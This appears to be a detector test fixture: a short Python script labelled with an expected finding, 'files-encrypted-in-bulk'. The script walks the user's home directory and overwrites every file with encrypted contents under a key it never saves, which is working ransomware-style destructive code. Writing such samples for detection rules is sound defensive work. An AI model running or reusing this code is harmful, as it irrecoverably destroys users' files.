# expect: 11 files-encrypted-in-bulk
import os
from cryptography.fernet import Fernet
key = Fernet.generate_key()
f = Fernet(key)
for root, _, files in os.walk(os.path.expanduser('~')):
    for name in files:
        p = os.path.join(root, name)
        with open(p, 'rb') as h:
            d = h.read()
        with open(p, 'wb') as h:
            h.write(f.encrypt(d))
